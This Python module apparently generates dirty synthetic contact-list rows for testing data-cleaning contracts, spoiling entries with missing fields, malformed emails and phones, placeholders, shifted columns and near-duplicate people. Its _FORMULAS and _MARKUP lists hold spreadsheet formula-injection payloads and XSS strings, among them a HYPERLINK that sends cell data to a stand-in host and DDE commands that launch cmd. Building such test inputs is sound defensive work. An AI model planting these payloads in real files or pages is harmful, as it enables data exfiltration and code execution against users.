"""What goes wrong in lists. Each function spoils one entry in one way; the code under which truth knows it is its key in the tables.

SPOILED damage a row. VARIED write the same person in another way, for the second row of somebody who is in the list already.
"""

from __future__ import annotations

from collections.abc import Callable
from random import Random

from generator import pools, spelling
from generator.entries import Entry, pick_clean
from generator.places import Phone

PhoneStyle = Callable[[Phone, Random], str]
Spoil = Callable[[Entry, Random], None]

_FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "-2+3+cmd|' /C calc'!A0",
]
_MARKUP = [
    "<b>{}</b>",
    '<img src=x onerror="alert(1)">{}',
    "<script>alert('x')</script>{}",
    "{}&nbsp;&amp;&nbsp;",
    '<a href="javascript:alert(1)">{}</a>',
]
_PLACEHOLDERS = [
    ("asdf", "asdf", "asdf@asdf.test", "1111111111", "asdf"),
    ("test", "test", "test@test.test", "1234567890", "test"),
    ("Select", "Select", "", "", "Select"),
    ("n/a", "n/a", "n/a", "n/a", "n/a"),
    ("Max", "Mustermann", "max@mustermann.example", "0123 456789", "Musterfirma"),
    ("John", "Doe", "john.doe@email.example", "000-000-0000", "ACME"),
    ("xxx", "xxx", "xxx@xxx.invalid", "xxx", "xxx"),
]
_BAD_PHONES = ["12345", "000-000-0000", "call me", "n/a", "+1 212 55", "+49 221 47101234567890", "999999999999999", "ask reception"]

# Rows no contract should let through; the others are dirty but usable.
REFUSED = frozenset({"shifted", "ragged", "formula", "placeholder", "missing_contact", "missing_name"})
UNUSABLE = REFUSED | {"opted_out"}


def _set(key: str, value: str) -> Spoil:
    def spoil(entry: Entry, _rng: Random) -> None:
        entry.values[key] = value

    return spoil


def _clear_contact(entry: Entry, _rng: Random) -> None:
    entry.values.update(email="", phone="")


def _clear_name(entry: Entry, _rng: Random) -> None:
    entry.values.update(first="", last="")


def _clear_firmographics(entry: Entry, _rng: Random) -> None:
    entry.values.update({key: "" for key in ("employees", "revenue", "industry", "website", "income") if key in entry.values})


def _bad_phone(entry: Entry, rng: Random) -> None:
    entry.values["phone"] = rng.choice(_BAD_PHONES)


def _bad_email(entry: Entry, rng: Random) -> None:
    local, _, domain = entry.values["email"].partition("@")
    entry.values["email"] = rng.choice(
        [f"{local}.{domain}", f"{local}@@{domain}", f"{local} @{domain}", f"{local}@", f"{local}@{domain}..", "n/a"]
    )


def _disposable(entry: Entry, rng: Random) -> None:
    entry.values["email"] = f"{entry.values['email'].partition('@')[0]}@{rng.choice(pools.DISPOSABLE_DOMAINS)}"


def _free(entry: Entry, rng: Random) -> None:
    entry.values["email"] = f"{entry.values['email'].partition('@')[0]}@{rng.choice(pools.FREE_DOMAINS)}"


def _role_mailbox(entry: Entry, rng: Random) -> None:
    language = "de" if entry.company and entry.company.place.country == "DE" else "en"
    domain = entry.values["email"].partition("@")[2]
    entry.values["email"] = f"{rng.choice(pools.ROLE_MAILBOXES[language])}@{domain}"


def _formula(entry: Entry, rng: Random) -> None:
    entry.values[rng.choice([key for key in ("first", "company", "title", "city") if key in entry.values])] = rng.choice(_FORMULAS)


def _markup(entry: Entry, rng: Random) -> None:
    key = rng.choice([key for key in ("last", "company", "title") if key in entry.values])
    entry.values[key] = rng.choice(_MARKUP).format(entry.values[key])


def _placeholder(entry: Entry, rng: Random) -> None:
    first, last, email, phone, company = rng.choice(_PLACEHOLDERS)
    entry.values.update(first=first, last=last, email=email, phone=phone)
    if "company" in entry.values:
        entry.values.update(company=company, website="")
    entry.person = entry.company = None


def _shifted(entry: Entry, _rng: Random) -> None:
    entry.damage = "shifted"


def _ragged(entry: Entry, _rng: Random) -> None:
    entry.damage = "ragged"


def _mojibake(entry: Entry, _rng: Random) -> None:
    entry.values.update({key: spelling.mojibake(entry.values[key]) for key in ("first", "last", "city")})


def _quoted_newline(entry: Entry, _rng: Random) -> None:
    entry.values["title"] = f"{entry.values['title']}\n(interim)"


def _alias(entry: Entry, rng: Random) -> None:
    if entry.company:
        entry.values["company"] = spelling.company_alias(entry.company.base, entry.company.form, entry.company.former, rng)


SPOILED: dict[str, Spoil] = {
    "missing_email": _set("email", ""),
    "missing_phone": _set("phone", ""),
    "missing_contact": _clear_contact,
    "missing_name": _clear_name,
    "missing_company": _set("company", ""),
    "missing_title": _set("title", ""),
    "missing_firmographics": _clear_firmographics,
    "bad_phone": _bad_phone,
    "bad_email": _bad_email,
    "disposable_domain": _disposable,
    "free_mailbox": _free,
    "role_mailbox": _role_mailbox,
    "formula": _formula,
    "markup": _markup,
    "placeholder": _placeholder,
    "shifted": _shifted,
    "ragged": _ragged,
    "mojibake": _mojibake,
    "quoted_newline": _quoted_newline,
    "company_alias": _alias,
}


def _typo(entry: Entry, rng: Random) -> None:
    entry.values["last"] = spelling.misspell(entry.values["last"], rng)


def _nickname(entry: Entry, rng: Random) -> None:
    short = spelling.nickname(entry.values["first"])
    entry.values["first"] = short if short != entry.values["first"] else spelling.misspell(short, rng)


def _swap(entry: Entry, _rng: Random) -> None:
    entry.values["first"], entry.values["last"] = entry.values["last"], entry.values["first"]


def _initial(entry: Entry, _rng: Random) -> None:
    entry.values["first"] = f"{entry.values['first'][0]}."


def _transliterate(entry: Entry, _rng: Random) -> None:
    entry.values.update({key: spelling.transliterate(entry.values[key]) for key in ("first", "last", "city")})


def _title(entry: Entry, rng: Random) -> None:
    language = "de" if entry.company and entry.company.place.country == "DE" else "en"
    entry.values["title"] = rng.choice(rng.choice(pools.TITLES[language]))


VARIED: dict[str, Spoil] = {
    "typo": _typo,
    "nickname": _nickname,
    "swapped_names": _swap,
    "initial": _initial,
    "transliterated": _transliterate,
    "changed_title": _title,
    "company_alias": _alias,
}


def spoil(entries: list[Entry], per_thousand: dict[str, int], rng: Random) -> None:
    """Spoil so many of every thousand entries, each entry in one way at most; at least one of each kind."""
    total = len(entries)
    for code, rate in per_thousand.items():
        for entry in pick_clean(entries, max(1, round(total * rate / 1000)), rng):
            SPOILED[code](entry, rng)
            entry.mark(code)


def repeat(entries: list[Entry], exact: int, varied: int, write_phone: PhoneStyle, rng: Random) -> list[Entry]:
    """Make further rows of people already there: word for word, and in another spelling with one key in common at least."""
    same = [_marked(entry.copy(), "same_row") for entry in pick_clean(entries, exact, rng)]
    return same + [vary(entry, "same_person", write_phone, rng) for entry in pick_clean(entries, varied, rng)]


def vary(entry: Entry, code: str, write_phone: PhoneStyle, rng: Random) -> Entry:
    """Write the same person another way: one or two varied spellings, now and then a key gone."""
    other = _marked(entry.copy(), code)
    usable = [name for name in VARIED if name not in ("changed_title", "company_alias") or "company" in other.values]
    for name in rng.sample(usable, rng.choice([1, 1, 2])):
        VARIED[name](other, rng)
        other.mark(name)
    draw = rng.random()
    if draw < 0.15 and other.values["email"]:
        other.values["phone"] = ""
    elif draw < 0.3 and other.values["phone"]:
        other.values["email"] = ""
    elif other.person and other.person.phone and other.values["phone"]:
        other.values["phone"] = write_phone(other.person.phone, rng)
    return other


def _marked(entry: Entry, code: str) -> Entry:
    entry.mark(code)
    return entry


def damage(cells: list[str], kind: str, rng: Random) -> list[str]:
    """Spoil finished cells: moved by one to the left or right from somewhere on, or too few or too many of them."""
    at = rng.randrange(1, 5)
    if kind == "shifted":
        return [*cells[:at], "", *cells[at:-1]] if rng.random() < 0.5 else [*cells[:at], *cells[at + 1 :], ""]
    if kind == "ragged":
        return cells[:-at] if rng.random() < 0.5 else [*cells, *["extra"] * at]
    return cells
